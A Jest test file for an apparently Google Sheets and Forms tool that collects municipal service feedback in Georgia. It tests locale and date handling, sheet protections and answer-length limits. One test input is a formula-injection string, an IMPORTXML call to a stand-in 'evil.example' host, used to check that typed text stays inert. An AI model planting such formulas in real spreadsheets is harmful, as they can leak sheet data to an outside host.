/**
 * What the product does on its first day in each Google world a municipality may have (a
 * consumer account, Workspace, strict Workspace with a Georgian locale).
 * A new spreadsheet takes its locale and time zone from the account (en_US, New York); after
 * setup, staff typing dates as Georgians write them get the day they meant, in Tbilisi time; what
 * staff type as text stays text; protections keep the domain out; an over-long online answer is
 * refused by the form, and a response that never reaches the workbook is reported, not lost.
 */
import { environment, type EnvironmentName } from '../../emulator';
import { setUpWorkbook, type Fixture } from '../support/workbook';
import { ANSWER_MAX_CHARS, N2, groupedNumber } from '../../src/domain/forms';
import { t } from '../../src/domain/messages';
import { feedbackColumnKey } from '../../src/domain/feedback-row';
import { DATE_FORMAT, TABS, TAB_ORDER, columnsOf, paperColumns } from '../../src/domain/schema';
import { DEFAULT_SERVICES } from '../../src/domain/services';
import { periodOf } from '../../src/domain/dates';
import { CELL_LIMIT, TRUNCATION_MARKER } from '../../src/domain/sanitize';
import { columnLetter, dataRows, formRecord, lastAlert, setSetting, tabValues } from '../support/tabs';

const WORLDS: EnvironmentName[] = ['consumer', 'workspace', 'workspace-strict'];
const COLLECT_NOW = t('menu.collect_now');
const SETUP = t('menu.setup');
const CLOSED = t('status.closed');
const HOUR = 3600_000;
const DAY = 24 * HOUR;
const newborn = DEFAULT_SERVICES.find((s) => s.code === 'newborn')!;
/** 5 January 2026, 00:00 in Tbilisi. */
const JAN_5 = '2026-01-04T20:00:00.000Z';
/** What a person might type into a text cell that Sheets would otherwise run or turn into an error. */
const PAYLOADS = ['=IMPORTXML("https://evil.example/x","//a")', '+995 599 12 34 56', '- რიგი ძალიან გრძელი იყო', '05/01/2026', '3,5'];

function world(name: EnvironmentName): Fixture {
  return setUpWorkbook({ environment: environment(name) });
}

function book(f: Fixture) {
  return f.ws.spreadsheets.byId(f.spreadsheetId);
}

function sheetOf(f: Fixture, tabName: string): GoogleAppsScript.Spreadsheet.Sheet {
  const sheet = book(f).getSheetByName(tabName);
  if (!sheet) throw new Error(`no tab ${tabName}`);
  return sheet;
}

function columnNumber(f: Fixture, tabName: string, header: string): number {
  const values = f.ws.spreadsheets
    .snapshot(f.spreadsheetId)
    .tabs.find((x) => x.name === tabName)!
    .values[0].map(String);
  // The feedback tab's columns by key (its header row shows Georgian labels).
  const at = values.findIndex((h) => h === header || (tabName === TABS.feedback.name && feedbackColumnKey(h) === header));
  if (at < 0) throw new Error(`no column ${header} in ${tabName}`);
  return at + 1;
}

/** A person types one value into a cell of a tab (edit triggers fire). */
function typeInto(f: Fixture, tabName: string, header: string, row: number, value: unknown, user?: string): GoogleAppsScript.Spreadsheet.Range {
  const cell = sheetOf(f, tabName).getRange(row, columnNumber(f, tabName, header));
  f.ws.spreadsheets.userEdit(f.spreadsheetId, tabName, cell.getA1Notation(), [[value]], user);
  return cell;
}

const n2Title = (id: string): string => N2.items.find((i) => i.id === id)!.ka;

function feedbackRows(f: Fixture): Array<Record<string, unknown>> {
  const header = tabValues(f, TABS.feedback.name)[0].map((h) => feedbackColumnKey(String(h)));
  return dataRows(f, TABS.feedback.name).map((row) => Object.fromEntries(header.map((h, i) => [h, row[i]])));
}

describe.each(WORLDS)('in a %s world', (name) => {
  let f: Fixture;
  beforeAll(() => {
    f = world(name);
  });

  test('a new spreadsheet has the account’s locale and zone; setup gives it Tbilisi time and the ka_GE locale', () => {
    const fresh = f.ws.spreadsheets.create('another file');
    expect(fresh.getSpreadsheetTimeZone()).toBe('America/New_York');
    expect(fresh.getSpreadsheetLocale()).toBe(environment(name).locale);
    expect(book(f).getSpreadsheetTimeZone()).toBe('Asia/Tbilisi');
    expect(book(f).getSpreadsheetLocale()).toBe('ka_GE');
  });

  test('date columns show dd.mm.yyyy, the invitation and answer days too (never a time), and the date help says so', () => {
    const apps = sheetOf(f, TABS.applications.name);
    for (const header of [t('col.submitted_at'), t('col.closed_at')]) {
      const cell = apps.getRange(2, columnNumber(f, TABS.applications.name, header));
      expect(cell.getNumberFormat()).toBe(DATE_FORMAT);
      expect(cell.getDataValidation()?.getHelpText()).toContain('05.01.2026');
    }
    // A time would tie a case to an answer: the invitation's and the answer's day only (README, anonymity).
    expect(apps.getRange(2, columnNumber(f, TABS.applications.name, t('col.invite_at'))).getNumberFormat()).toBe(DATE_FORMAT);
    expect(sheetOf(f, TABS.paper.name).getRange('A2').getNumberFormat()).toBe(DATE_FORMAT);
    expect(
      sheetOf(f, TABS.feedback.name)
        .getRange(2, columnNumber(f, TABS.feedback.name, 'received_at'))
        .getNumberFormat(),
    ).toBe(DATE_FORMAT);
  });

  test('staff typing 05.01.2026 get 5 January 2026 in Tbilisi time, in every date column', () => {
    const dateColumns: Array<[string, string]> = [
      [TABS.applications.name, t('col.submitted_at')],
      [TABS.paper.name, TABS.paper.columns[0].header],
      [TABS.otherChannels.name, TABS.otherChannels.columns[0].header],
      [TABS.actions.name, t('col.due')],
      [TABS.actions.name, t('col.meeting_date')],
    ];
    for (const [tabName, header] of dateColumns) {
      const cell = typeInto(f, tabName, header, 40, '05.01.2026');
      expect([tabName, header, (cell.getValue() as Date).toISOString()]).toEqual([tabName, header, JAN_5]);
      expect(cell.getDisplayValue()).toBe('05.01.2026');
      const withTime = typeInto(f, tabName, header, 41, '05.01.2026 14:30');
      expect((withTime.getValue() as Date).toISOString()).toBe('2026-01-05T10:30:00.000Z');
    }
  });

  test('a typed =IMPORTXML(…), +995 … or "- …" stays the text typed in every staff text column', () => {
    const textColumns = TAB_ORDER.flatMap((key) =>
      columnsOf(key)
        .filter((c) => c.plainText && !c.scriptOnly)
        .map((c) => [TABS[key].name, c.header] as const),
    );
    expect(textColumns.length).toBeGreaterThanOrEqual(15);
    for (const [tabName, header] of textColumns) {
      PAYLOADS.forEach((payload, i) => {
        const cell = typeInto(f, tabName, header, 60 + i, payload);
        expect([tabName, header, cell.getValue(), cell.getFormula()]).toEqual([tabName, header, payload, '']);
      });
    }
  });

  test('a 60,000-character online answer is refused by the form, with the limit in Georgian; nothing is silently lost', () => {
    const n2 = formRecord(f, 'N2');
    const before = f.ws.forms.snapshot(n2.id).responseCount;
    const improve = f.ws.forms.snapshot(n2.id).items.find((i) => i.title === n2Title('n2.improve'))!;
    expect(improve.helpText).toBe(`არაუმეტეს ${groupedNumber(ANSWER_MAX_CHARS)} სიმბოლო.`);
    expect(improve.validation).toEqual({ maxLength: ANSWER_MAX_CHARS, helpText: t('form.answer_too_long', { limit: groupedNumber(ANSWER_MAX_CHARS) }) });
    // A resident of the domain: in a strict Workspace only they may open the form.
    expect(() =>
      f.ws.forms.respond(
        n2.id,
        { [n2Title('n2.service')]: newborn.ka, [n2Title('n2.overall')]: 4, [n2Title('n2.improve')]: 'ა'.repeat(60_000) },
        { respondent: 'resident@example.ge' },
      ),
    ).toThrow(t('form.answer_too_long', { limit: groupedNumber(ANSWER_MAX_CHARS) }));
    expect(f.ws.forms.snapshot(n2.id).responseCount).toBe(before);
    f.click(COLLECT_NOW);
    expect(lastAlert(f)).not.toMatch(/ყურადღება/);
  });

  test('every protection the product made keeps the domain out; a colleague cannot overwrite the script’s columns', () => {
    const protections = [
      ...book(f).getProtections(f.ws.spreadsheets.app.ProtectionType.RANGE),
      ...book(f).getProtections(f.ws.spreadsheets.app.ProtectionType.SHEET),
    ].filter((p) => p.getDescription().startsWith('ukukavshiri:') && !p.isWarningOnly());
    expect(protections.length).toBeGreaterThan(5);
    for (const p of protections) expect([p.getDescription(), p.canDomainEdit()]).toEqual([p.getDescription(), false]);
    expect(() => typeInto(f, TABS.applications.name, t('col.invite_status'), 2, 'გაგზავნილია', 'clerk@example.ge')).toThrow('protected cell');
    expect(f.ws.core.logs.filter((l) => /could not close protection/.test(l))).toEqual([]);
  });

  test('the settings and services tabs are the owner’s: no warning to click through, a colleague cannot edit them, the owner can', () => {
    for (const tab of [TABS.settings, TABS.services]) {
      const [protection] = sheetOf(f, tab.name)
        .getProtections(f.ws.spreadsheets.app.ProtectionType.SHEET)
        .filter((p) => p.getDescription() === `ukukavshiri:${tab.key}`);
      expect(protection).toBeDefined();
      expect(protection.isWarningOnly()).toBe(false);
      expect(protection.getEditors()).toHaveLength(1);
      expect(protection.getUnprotectedRanges()).toEqual([]);
      const header = tab.columns[1].header;
      expect(() => typeInto(f, tab.name, header, 2, 'x', 'clerk@example.ge')).toThrow('protected cell');
    }
    const owner = sheetOf(f, TABS.settings.name).getProtections(f.ws.spreadsheets.app.ProtectionType.SHEET)[0].getEditors()[0].getEmail();
    const before = sheetOf(f, TABS.settings.name).getRange('B2').getValue();
    typeInto(f, TABS.settings.name, TABS.settings.columns[1].header, 2, before, owner);
  });
});

describe.each(WORLDS)('dates typed dd.mm.yyyy drive the product as before (%s)', (name) => {
  test('invitations go out in the day’s batch, one a day under the cap, and emails are cleared after the retention days', () => {
    const f = world(name);
    setSetting(f, 'mailQuotaPerDay', '1');
    setSetting(f, 'emailRetentionDays', '30');
    setSetting(f, 'inviteBatchMin', '2');
    const row = (i: number) => [`01-2026-000${i}`, '02.01.2026', newborn.ka, `განმცხადებელი ${i}`, `applicant${i}@example.ge`, 'ელფოსტა', CLOSED];
    f.ws.spreadsheets.userEdit(f.spreadsheetId, TABS.applications.name, 'A2:G3', [row(1), row(2)]);
    expect(f.ws.mail.sent).toHaveLength(0);
    const apps = sheetOf(f, TABS.applications.name);
    expect((apps.getRange('B2').getValue() as Date).toISOString()).toBe('2026-01-01T20:00:00.000Z');
    // The batch at 11:00 (inviteHour) has room for one; the next day's for the other.
    f.ws.script.runClockUntil(Date.parse('2026-01-05T12:00:00+04:00'));
    expect(f.ws.mail.sent).toHaveLength(1);
    f.ws.script.runClockUntil(Date.parse('2026-01-06T12:00:00+04:00'));
    expect(f.ws.mail.sent.map((m) => m.to).sort()).toEqual(['applicant1@example.ge', 'applicant2@example.ge']);
    // Cleared by the daily job 30 days after the closing day (the script filled it in as the day, 5 January), not before.
    f.ws.script.runClockUntil(Date.parse('2026-02-03T12:00:00+04:00'));
    expect(apps.getRange('E2:E3').getValues().flat()).toEqual(['applicant1@example.ge', 'applicant2@example.ge']);
    f.ws.script.runClockUntil(Date.parse('2026-02-04T12:00:00+04:00'));
    expect(apps.getRange('E2:E3').getValues().flat()).toEqual(['', '']);
  });

  test('paper forms dated 31.12.2025 and 01.01.2026 fall into the quarters they were received in', () => {
    const f = world(name);
    const columns = paperColumns();
    const typed = (row: number, receivedAt: string) => {
      const values = columns
        .slice(0, columns.length - 3)
        .map((c) => (c.key === 'receivedAt' ? receivedAt : c.key === 'n1.service' ? newborn.ka : c.key === 'n1.overall' ? 4 : ''));
      f.ws.spreadsheets.userEdit(f.spreadsheetId, TABS.paper.name, `A${row}:${columnLetter(values.length - 1)}${row}`, [values]);
    };
    typed(2, '31.12.2025');
    typed(3, '01.01.2026');
    f.click(t('menu.import_paper'));
    const received = feedbackRows(f).map((r) => r.received_at as Date);
    expect(received.map((d) => d.toISOString())).toEqual(['2025-12-30T20:00:00.000Z', '2025-12-31T20:00:00.000Z']);
    expect(received.map((d) => periodOf('quarter', d).labelEn)).toEqual(['Q4 2025', 'Q1 2026']);
  });
});

describe('an answer longer than a cell (a form made before the limit)', () => {
  test('is read from the form itself, stored cut to fit with its marker and flagged; nothing is missing', () => {
    const f = world('consumer');
    const n2 = formRecord(f, 'N2');
    // A form made before setup limited answers: Google takes any length. (A response tab never
    // held such an answer: the collector reads the form, which keeps it whole.)
    f.ws.forms.app.openById(n2.id).getItemById(n2.items['n2.improve']).asParagraphTextItem().clearValidation();
    const answers = (improve: string) => ({ [n2Title('n2.service')]: newborn.ka, [n2Title('n2.overall')]: 4, [n2Title('n2.improve')]: improve });
    f.ws.forms.respond(n2.id, answers('მოკლე პასუხი'));
    f.ws.forms.respond(n2.id, answers('ა'.repeat(60_000)));
    f.ws.forms.respond(n2.id, answers(''));
    f.click(COLLECT_NOW);
    expect(lastAlert(f)).not.toMatch(/ყურადღება/);
    const rows = feedbackRows(f);
    expect(rows).toHaveLength(3);
    const long = rows.find((r) => String(r['n2.improve']).endsWith(TRUNCATION_MARKER))!;
    expect(String(long['n2.improve']).length).toBeLessThanOrEqual(CELL_LIMIT);
    expect(String(long.flags)).not.toBe('');
    expect(f.ws.core.logs.some((l) => /form N2 holds \d+ responses but only/.test(l))).toBe(false);
    // Setup run again gives the old form its limit back.
    f.click(SETUP);
    expect(() => f.ws.forms.respond(n2.id, answers('ა'.repeat(60_000)))).toThrow(t('form.answer_too_long', { limit: groupedNumber(ANSWER_MAX_CHARS) }));
  });

  test('a form whose every response arrived shows no gap', () => {
    const f = world('consumer');
    const n2 = formRecord(f, 'N2');
    f.ws.forms.respond(n2.id, { [n2Title('n2.service')]: newborn.ka, [n2Title('n2.overall')]: 5 });
    f.ws.core.advance(DAY);
    f.click(COLLECT_NOW);
    expect(lastAlert(f)).not.toMatch(/ყურადღება/);
    expect(f.ws.core.logs.filter((l) => /accounted for/.test(l))).toEqual([]);
  });
});
